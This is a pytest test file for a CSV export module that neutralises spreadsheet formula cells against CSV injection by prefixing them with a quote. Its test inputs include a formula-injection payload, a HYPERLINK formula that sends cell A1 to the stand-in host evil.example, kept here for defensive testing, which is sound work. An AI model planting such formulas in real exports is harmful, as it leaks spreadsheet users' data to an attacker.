"""CSV exports neutralise formula cells (OWASP "CSV Injection"): a campaign name planted by a
public form post opens as text in a spreadsheet, never as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from leadflow.events.csvexport import neutralise, to_csv


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx"],
)
def test_formula_text_is_prefixed_with_a_quote(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["spring-webinar", "a=b", "", -12.5, 0, None])
def test_plain_text_and_numbers_are_untouched(cell: object) -> None:
    assert neutralise(cell) == cell


def test_export_reads_back_as_text_not_formulas() -> None:
    rows = [
        {"campaign": '=HYPERLINK("http://evil.example","x")', "roi": -0.5, "leads": 3},
        {"campaign": "spring", "roi": None, "@owner": "-rep"},
    ]
    parsed = list(csv.reader(io.StringIO(to_csv(rows))))
    assert parsed == [
        ["campaign", "roi", "leads", "'@owner"],
        ['\'=HYPERLINK("http://evil.example","x")', "-0.5", "3", ""],
        ["spring", "", "", "'-rep"],
    ]
